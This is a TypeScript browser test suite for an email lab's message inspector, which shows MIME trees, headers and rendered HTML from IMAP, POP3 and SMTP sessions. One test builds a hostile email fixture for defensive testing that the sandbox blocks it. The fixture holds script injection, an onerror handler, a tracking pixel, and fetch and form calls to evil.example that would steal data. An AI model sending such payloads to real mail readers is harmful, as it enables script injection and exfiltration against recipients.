/**
 * The message inspector in real Chromium: opened from the live Maildir view, from the link a
 * terminal offers after "250 ... queued as", RETR or FETCH (in the lab page and in a lesson's
 * dock), and from the mail world's message list; its MIME tree is the BODYSTRUCTURE the IMAP
 * server sends (fetched with imaplib); and a hostile message's HTML runs no script and loads
 * nothing from the network — every request the page makes is intercepted and recorded, and the
 * frame's Content-Security-Policy reports what it blocked to the lab.
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { python, run } from '../helpers/clients.js';
import { axeViolations, siteUnderTest, watchErrors } from '../helpers/browser.js';
import { pageTerminal as terminal, terminalOpen, typeLines } from '../helpers/lessons.js';

const site = siteUnderTest();
const url = (path: string): string => site.url(path);

describe('the message inspector', () => {
  it('opens a message from the Maildir view, and its MIME tree is the IMAP server\'s BODYSTRUCTURE', async () => {
    const page = await site.browser.newPage();
    const errors = watchErrors(page);
    await page.goto(url('/en/lessons/storage-dns/'));
    const file = page.locator('.maildir [data-file]').filter({ hasText: ',S=' }).nth(1);
    await file.waitFor({ timeout: 15_000 });
    const link = file.getByRole('link');
    const href = await link.getAttribute('href');
    expect(href).toMatch(/^\/en\/inspect\/\?user=bob%40example\.com&folder=INBOX&uid=2$/);
    await link.click();
    await page.waitForURL(/\/en\/inspect\//);
    await page.getByRole('tab', { name: 'MIME tree' }).click();
    const shown = await page.locator('[data-bodystructure]').innerText();
    const r = await python(
      `
import imaplib
i = imaplib.IMAP4('127.0.0.1', P['port']); i.login('bob@example.com', 'secret'); i.select('INBOX', readonly=True)
typ, data = i.uid('FETCH', '2', '(BODYSTRUCTURE)')
print(data[0].decode())
i.logout()`,
      { port: site.lab.port('imap') },
    );
    expect(r.stderr).toBe('');
    expect(r.stdout).toContain(`BODYSTRUCTURE ${shown}`);
    expect(await page.locator('[data-mime] [data-section="2"]').innerText()).toMatch(/text\/csv[\s\S]*attachment \(ports\.csv\)[\s\S]*a1 UID FETCH 2 BODY\[2\]/);
    await page.getByRole('tab', { name: 'On disk' }).click();
    expect(await page.locator('[data-filename]').innerText()).toMatch(/^\d+\.M\d+P\d+Q\d+\..+,S=\d+,W=\d+/);
    for (const tab of ['Rendered', 'Headers', 'Raw', 'MIME tree', 'On disk']) {
      await page.getByRole('tab', { name: tab }).click();
      expect(await axeViolations(page), tab).toEqual([]);
    }
    expect(errors).toEqual([]);
    await page.close();
  }, 60_000);

  it('opens a message from the link a terminal offers after "250 ... queued as"', async () => {
    const page = await site.browser.newPage();
    const errors = watchErrors(page);
    await page.goto(url('/en/lab/?service=smtp'));
    await terminalOpen(page, 'smtp');
    await typeLines(page, 'smtp', ['EHLO browser.test', 'MAIL FROM:<alice@example.com>', 'RCPT TO:<bob@example.com>', 'DATA', 'Subject: =?UTF-8?B?5qOA5p+l?= from a terminal', '', 'Hello, inspector.', '.'], /250 2\.0\.0 Ok: queued as [0-9A-F]{10}/);
    const queueId = /queued as ([0-9A-F]{10})/.exec(await terminal(page, 'smtp').locator('.xterm-rows').innerText())![1]!;
    const link = terminal(page, 'smtp').getByRole('link', { name: queueId });
    const [opened] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
    await opened.waitForLoadState();
    expect(opened.url()).toMatch(new RegExp(`/en/inspect/\\?queue=${queueId}$`));
    await expect.poll(() => opened.locator('[data-text]').innerText()).toContain('Hello, inspector.');
    await opened.getByRole('tab', { name: 'Headers' }).click();
    const subject = opened.getByRole('row', { name: /^Subject/ });
    expect(await subject.innerText()).toMatch(/检查 from a terminal[\s\S]*decoded from: =\?UTF-8\?B\?5qOA5p\+l\?= from a terminal/);
    expect(await opened.locator('.hops li').first().innerText()).toMatch(new RegExp(`mail\\.example\\.com[\\s\\S]*queue id ${queueId}`));
    expect(errors).toEqual([]);
    await page.close();
    await opened.close();
  }, 60_000);

  it("opens what RETR showed in a lesson dock's POP3 terminal, what FETCH showed in the lab page's IMAP terminal, and a message from the world's list", async () => {
    const page = await site.browser.newPage();
    const errors = watchErrors(page);
    /** Clicks the terminal's link to the message it showed; the inspector opens in a new tab. */
    const openSighted = async (term: ReturnType<typeof terminal>): Promise<Page> => {
      const link = term.locator('.sighted a').last();
      await link.waitFor({ timeout: 10_000 });
      const messageId = (await link.innerText()).trim();
      expect(messageId).toMatch(/^<[^>\s]+@[^>\s]+>$/);
      const [opened] = await Promise.all([page.context().waitForEvent('page'), link.click()]);
      await opened.waitForLoadState();
      expect(new URL(opened.url()).searchParams.get('messageId')).toBe(messageId);
      expect(new URL(opened.url()).searchParams.get('user')).toBe('bob@example.com');
      await opened.getByRole('tab', { name: 'Headers' }).click();
      // The message the inspector found is the one the terminal printed: same Message-ID.
      expect(await opened.getByRole('row', { name: /^Message-ID/i }).innerText()).toContain(messageId);
      return opened;
    };

    // POP3 in the dock a lesson's port table opens.
    await page.goto(url('/en/lessons/ports-security/'));
    await page.getByRole('button', { name: 'Open terminal: pop3', exact: true }).click();
    const pop3 = page.locator('.dock .terminal[data-service="pop3"]');
    await pop3.and(page.locator('[data-state="open"]')).waitFor({ timeout: 15_000 });
    await pop3.locator('.screen').click();
    for (const line of ['USER bob@example.com', 'PASS secret', 'RETR 1']) {
      await page.keyboard.type(line);
      await page.keyboard.press('Enter');
    }
    const retrieved = await openSighted(pop3);
    expect(await retrieved.locator('.where').innerText()).toMatch(/bob@example\.com · INBOX · UID 1 /);
    await retrieved.close();

    // IMAP on the lab page.
    await page.goto(url('/en/lab/?service=imap'));
    await terminalOpen(page, 'imap');
    await typeLines(page, 'imap', ['a1 LOGIN bob@example.com secret', 'a2 SELECT INBOX', 'a3 FETCH 2 BODY.PEEK[]'], /a3 OK/);
    const fetched = await openSighted(terminal(page, 'imap'));
    expect(await fetched.locator('.where').innerText()).toMatch(/bob@example\.com · INBOX · UID 2 /);
    await fetched.close();

    // The mail world's list of received messages links each stored one.
    const subject = `listed ${Date.now()}`;
    const sent = await python(
      `
import smtplib
s = smtplib.SMTP('127.0.0.1', P['port'], timeout=20)
s.sendmail('someone@outside.test', ['bob@example.com'], ('Subject: %s\\r\\n\\r\\nfrom the list\\r\\n' % P['subject']).encode())
s.quit()`,
      { port: site.lab.port('smtp'), subject },
    );
    expect(sent.stderr).toBe('');
    await page.goto(url('/en/world/messages/'));
    const row = page.getByRole('row', { name: new RegExp(subject) });
    await expect.poll(() => row.count(), { timeout: 10_000 }).toBe(1);
    await row.getByRole('link', { name: 'Message inspector' }).click();
    await page.waitForURL(/\/en\/inspect\/\?queue=[0-9A-F]{10}&user=bob%40example\.com$/);
    await expect.poll(() => page.locator('[data-text]').innerText()).toContain('from the list');
    expect(errors).toEqual([]);
    await page.close();
  }, 90_000);

  it("a hostile message's HTML runs no script and loads nothing from the network; the CSP reports what it blocked", async () => {
    const message = [
      'Subject: <script>window.parent.pwned = 1</script> hostile',
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="b"',
      '',
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<h1 id="h">Hello</h1>',
      '<img src="http://tracker.example/pixel.gif?who=bob" alt="">',
      '<img src="cid:logo@here" alt="logo" id="logo">',
      '<script>document.title = "pwned"; fetch("http://evil.example/steal")</script>',
      '<img src="x" onerror="document.title=\'pwned\'">',
      '<form action="http://evil.example/post"><input name="p"><button id="go">Go</button></form>',
      '<link rel="stylesheet" href="http://evil.example/style.css">',
      '--b',
      'Content-Type: image/gif',
      'Content-ID: <logo@here>',
      'Content-Transfer-Encoding: base64',
      '',
      'R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7',
      '--b--',
      '',
    ].join('\r\n');
    const send = await run('python3', ['-c', `import smtplib, sys\ns = smtplib.SMTP('127.0.0.1', ${site.lab.port('smtp')})\ns.ehlo('x.test'); s.mail('x@sender.test'); s.rcpt('bob@example.com')\nprint(s.data(sys.stdin.buffer.read())[1].decode())\ns.quit()`], message);
    expect(send.stderr).toBe('');
    const queueId = /queued as ([0-9A-F]{10})/.exec(send.stdout)![1]!;
    const before = await (await fetch(url('/metrics'))).text();
    const reported = (text: string): number => [...text.matchAll(/^maillab_csp_reports_total\{[^}]*\} (\d+)$/gm)].reduce((n, m) => n + Number(m[1]), 0);

    const page = await site.browser.newPage();
    const requests: string[] = [];
    // Every request the page or its frame makes is intercepted: anything off the lab is refused and recorded.
    await page.route('**/*', (route) => {
      const u = route.request().url();
      requests.push(u);
      return u.startsWith(url('/')) || u.startsWith('data:') ? route.continue() : route.abort();
    });
    await page.goto(url(`/en/inspect/?queue=${queueId}`));
    await page.locator('iframe').waitFor({ timeout: 15_000 });
    expect(await page.locator('[data-remote]').innerText()).toMatch(/3 network references blocked[\s\S]*tracking pixels/);
    const frame = page.frameLocator('iframe');
    await expect.poll(() => frame.locator('#h').innerText()).toBe('Hello');
    // The embedded (cid:) image is shown, inlined as data:.
    await expect.poll(() => frame.locator('#logo').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
    await frame.locator('#go').click().catch(() => undefined);
    await page.waitForTimeout(500);
    expect(await page.title()).not.toBe('pwned');
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    // The subject's <script> is shown as text.
    await page.getByRole('tab', { name: 'Headers' }).click();
    expect(await page.getByRole('row', { name: /^Subject/ }).innerText()).toContain('<script>window.parent.pwned = 1</script> hostile');
    expect(requests.filter((u) => !u.startsWith(url('/')) && !u.startsWith('data:'))).toEqual([]);
    // Chromium told the lab what the policy blocked.
    await expect.poll(async () => reported(await (await fetch(url('/metrics'))).text()) - reported(before), { timeout: 10_000 }).toBeGreaterThan(0);
    await page.close();
  }, 60_000);

  it('opened bare (no message named) says how to pick one, in both languages, and asks the server for nothing', async () => {
    const page = await site.browser.newPage();
    const errors = watchErrors(page);
    const asked: string[] = [];
    page.on('request', (r) => void (r.url().includes('/api/inspect') && asked.push(r.url())));
    await page.goto(url('/en/inspect/'));
    await expect.poll(() => page.locator('.inspector [role="alert"]').innerText()).toMatch(/names no message[\s\S]*RETR or FETCH[\s\S]*\?user=bob@example\.com&folder=INBOX&uid=4/);
    await page.goto(url('/inspect/'));
    await expect.poll(() => page.locator('.inspector [role="alert"]').innerText()).toMatch(/没有指明要看哪封邮件/);
    expect(asked).toEqual([]);
    expect(errors).toEqual([]);
    await page.close();
  });
});
